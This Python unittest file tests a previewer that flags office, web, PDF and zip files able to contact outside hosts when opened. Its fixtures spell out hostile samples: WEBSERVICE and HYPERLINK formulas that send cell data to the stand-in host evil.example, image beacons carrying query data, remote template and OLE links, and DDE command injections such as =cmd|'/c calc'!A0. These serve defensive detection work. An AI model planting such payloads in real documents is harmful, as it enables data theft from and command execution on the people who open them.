"""Results that would connect to other computers when somebody opens them are named in the preview."""
import io
import os
import struct
import unittest
import zipfile

from support import Folder

import errand_preview

HOST = "evil.example"
LIMITS = errand_preview.Limits(200, 200, 20_000)


def package(**parts):
    """A zip with an xlsx's first part; keywords are parts, with __ for / and _dot_ for a dot."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), text)
    return data.getvalue()


def relation(kind, target, mode="External"):
    return f'<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


class Outward(unittest.TestCase):
    def setUp(self):
        self.folder = Folder(self)

    def found(self, name, data):
        path = self.folder.put(name, data)
        return errand_preview.preview_file(path, name, LIMITS)["outward"]

    def workbook(self, *formulas, name="a.xlsx"):
        import openpyxl

        book = openpyxl.Workbook()
        book.active.append(["a", "b"])
        for formula in formulas:
            book.active.append([1, formula])
        path = os.path.join(self.folder.path, name)
        book.save(path)
        return errand_preview.preview_file(path, name, LIMITS)["outward"]

    def test_formulas_that_call_the_network(self):
        for formula, name in (
            (f'=WEBSERVICE("https://{HOST}/?"&A1)', "WEBSERVICE"), (f'=_xlfn.IMAGE("https://{HOST}/a.png")', "IMAGE"),
            (f'=SUM(1, webservice ("https://{HOST}"))', "WEBSERVICE"), (f'=HYPERLINK("https://{HOST}/?"&A1,"x")', "HYPERLINK"),
            (f'=IMPORTDATA("https://{HOST}")', "IMPORTDATA"), ('=RTD("a",,"b")', "RTD"), ("=cmd|'/c calc'!A0", "DDE"),
        ):  # fmt: skip
            with self.subTest(formula):
                self.assertEqual([name], self.workbook(formula))

    def test_ordinary_formulas_texts_and_links_to_click_are_none(self):
        self.assertEqual([], self.workbook("=SUM(A1:A9)", '=IF(A1="a|b",1,2)', '=HYPERLINK("#Sheet1!A1","x")', "WEBSERVICE(1)"))
        import pandas

        path = os.path.join(self.folder.path, "links.xlsx")
        pandas.DataFrame({"a": [f"https://{HOST}/"]}).to_excel(path, engine="xlsxwriter")
        self.assertEqual([], errand_preview.preview_file(path, "links.xlsx", LIMITS)["outward"])
        self.assertEqual([], self.found("a.csv", f"a,b\n-1,https://{HOST}/\n@somebody,IMAGE (x)\n"))
        self.assertEqual([], self.found("a.html", f'<p><a href="https://{HOST}/">x</a> a (b) src <img src="data:,"></p>'))
        self.assertEqual([], self.found("a.md", f"[x](https://{HOST}/)\n"))

    def test_a_formula_that_is_spelled_in_entities_or_lies_across_pieces(self):
        sheet = "<worksheet><sheetData>%s<c><f>&#87;EBSERVICE(1)</f></c></sheetData></worksheet>"
        for padding in ("", " " * ((1 << 20) - 40)):
            data = package(**{"xl__workbook_dot_xml": "<workbook/>", "xl__worksheets__sheet1_dot_xml": sheet % padding,
                              "_rels/.rels": "<Relationships/>"})  # fmt: skip
            self.assertEqual(["WEBSERVICE"], self.found("a.xlsx", data))

    def test_parts_of_other_hosts(self):
        for kind, target, expected in (
            ("image", f"https://{HOST}/a.png?d=1", [HOST]), ("attachedTemplate", f"\\\\{HOST}\\share\\a.dotm", [HOST]),
            ("oleObject", f"file://{HOST}/share/a", [HOST]), ("externalLinkPath", "other.xlsx", []),
            ("image", "file:///C:/a.png", []), ("hyperlink", f"https://{HOST}/", []),
        ):  # fmt: skip
            with self.subTest(target):
                data = package(**{"word__document_dot_xml": "<document/>", "[Content_Types].xml": "<Types/>",
                                  "word/_rels/document.xml.rels": relation(kind, target)})  # fmt: skip
                self.assertEqual(expected, self.found("a.docx", data))

    def test_fields_of_word_and_connections_of_excel(self):
        field = f'<document><w:instrText xml:space="preserve"> INCLUDEPICTURE "https://{HOST}/" \\d </w:instrText></document>'
        self.assertEqual(["INCLUDEPICTURE"], self.found("a.docx", package(**{"word__document_dot_xml": field, "_rels/.rels": ""})))
        connections = f'<connections><connection id="1"><webPr url="https://{HOST}/"/></connection></connections>'
        data = package(**{"xl__workbook_dot_xml": "<workbook/>", "xl__connections_dot_xml": connections, "_rels/.rels": ""})
        self.assertEqual(["webPr"], self.found("a.xlsx", data))

    def test_open_documents(self):
        content = f'<x><draw:image xlink:href="https://{HOST}/a.png"/><text:a xlink:href="https://click.example/">y</text:a></x>'
        data = package(mimetype="application/vnd.oasis.opendocument.text", content_dot_xml=content)
        self.assertEqual([HOST], self.found("a.odt", data))
        content = '<x><table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)"/></x>'
        data = package(mimetype="application/vnd.oasis.opendocument.spreadsheet", content_dot_xml=content)
        self.assertEqual(["WEBSERVICE"], self.found("a.ods", data))

    def test_pages_drawings_and_marked_down_text(self):
        for name, text in (
            ("a.html", f'<html><img src="https://user@{HOST}/?d=1"></html>'), ("b.html", f"<p style='background:url(//{HOST}/x)'>a</p>"),
            ("c.html", f'<link rel=stylesheet href="https://{HOST}/a.css">'), ("a.md", f"text ![x](https://{HOST}/?d=secret)\n"),
            ("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://{HOST}/a.png"/></svg>'),
        ):  # fmt: skip
            with self.subTest(name):
                self.assertEqual([HOST], self.found(name, text))
        self.assertEqual(["script"], self.found("d.html", "<html><script>fetch('x')</script></html>"))

    def test_texts_that_a_spreadsheet_takes_for_formulas(self):
        self.assertEqual(["WEBSERVICE"], self.found("a.csv", f'a,b\n1,"=WEBSERVICE(""https://{HOST}/""&A1)"\n'))
        self.assertEqual(["WEBSERVICE"], self.found("gbk.csv", f"地区,值\n华东,+WEBSERVICE(\"https://{HOST}/\")\n".encode("gb18030")))
        self.assertEqual(["DDE"], self.found("dde.tsv", "a\tb\n1\t=cmd|'/c calc'!A0\n"))

    def test_formulas_of_an_old_workbook(self):
        import xlwt

        for formula, expected in ((f'HYPERLINK("https://{HOST}/"&A1;"x")', ["HYPERLINK"]), ('SUM(1;RTD("a";"";"b"))', ["RTD"]),
                                  ("SUM(A1:A9)+One!A1", [])):  # fmt: skip
            with self.subTest(formula):
                book = xlwt.Workbook()
                for name in ("One", "Two"):
                    sheet = book.add_sheet(name)
                    sheet.write(0, 0, f"https://{HOST}/")
                    sheet.write(1, 0, 359.25)
                sheet.write(2, 0, xlwt.Formula(formula))
                data = io.BytesIO()
                book.save(data)
                self.assertEqual(expected, self.found("a.xls", data.getvalue()))
        with open(os.path.join(os.path.dirname(__file__), "../fixtures/office/libreoffice.xls"), "rb") as file:
            self.assertEqual([], self.found("libreoffice.xls", file.read()))

    def test_links_connections_and_macros_of_an_old_workbook(self):
        def text(value, wide=False):
            return struct.pack("<HB", len(value), wide) + value.encode("utf-16-le" if wide else "latin-1")

        for record, expected in (
            ((0x1AE, b"\x01\x00" + text(f"\x01\x01@{HOST}\x03share\x03[a.xls]")), ["LINK", HOST]),
            ((0x1AE, b"\x01\x00" + text(f"\x01\x05\x20https://{HOST}/a.xls", wide=True)), ["LINK", HOST]),
            ((0x1AE, b"\x00\x00" + text("cmd\x03/c calc")), ["DDE"]), ((0x1AE, b"\x01\x00\x01\x04"), []),
            ((0x1AE, b"\x01\x00\x01\x3a"), []), ((0x23, b"\x0a\x00rest"), ["DDE"]),
            ((0x23, b"\x00\x00\x00\x00\x00\x00\x10\x00_xlfn.WEBSERVICE"), ["WEBSERVICE"]), ((0x803, b"x"), ["CONNECTION"]),
            ((0x85, b"\0\0\0\0\x02\x01\x04\x00Auto"), ["script"]), ((0x85, b"\0\0\0\0\x00\x00\x01\x00A"), []),
            ((0x1AE, b"\x01\x00" + b"cut"), ["LINK"]),
        ):  # fmt: skip
            with self.subTest(record):
                stream = b"".join(struct.pack("<HH", kind, len(content)) + content
                                  for kind, content in ((0x809, b"\x00\x06\x05\x00"), record, (0x0A, b"")))
                self.assertEqual(expected, self.found("a.xls", stream))

    def test_a_page_and_a_table_that_are_called_a_workbook(self):
        self.assertEqual([HOST], self.found("a.xls", f'<table><tr><td><img src="https://{HOST}/?d=1"></td></tr></table>'))
        self.assertEqual(["WEBSERVICE"], self.found("b.xls", f'a\tb\n1\t=WEBSERVICE("https://{HOST}/")\n'))
        xml = '<?xml version="1.0"?><Workbook><Cell ss:Formula="=WEBSERVICE(&quot;x&quot;)"/></Workbook>'
        self.assertEqual(["WEBSERVICE"], self.found("c.xls", xml))

    def test_pdfs_that_act_when_they_are_opened(self):
        from pypdf import PdfWriter

        for add in (lambda writer: writer.add_js("app.launchURL('x')"), None):
            writer = PdfWriter()
            writer.add_blank_page(100, 100)
            if add:
                add(writer)
            data = io.BytesIO()
            writer.write(data)
            self.assertEqual(["script"] if add else [], self.found("a.pdf", data.getvalue()))

    def test_members_of_a_zip(self):
        data = package(**{"a.csv": f'a\n=WEBSERVICE("https://{HOST}/")\n', "b.html": f'<img src="https://{HOST}/">'})
        self.assertEqual(["WEBSERVICE", HOST], self.found("a.zip", data))

    def test_no_damage_and_no_size_of_the_list_matters(self):
        self.assertEqual([], self.found("a.xlsx", b"PK\x03\x04 not a zip"))
        self.assertEqual([], self.found("a.pdf", b"%PDF-1.4 cut"))
        pictures = "".join(f'<img src="https://{n}.example/">' for n in range(50))
        self.assertEqual(5, len(self.found("a.html", pictures)))


if __name__ == "__main__":
    unittest.main()
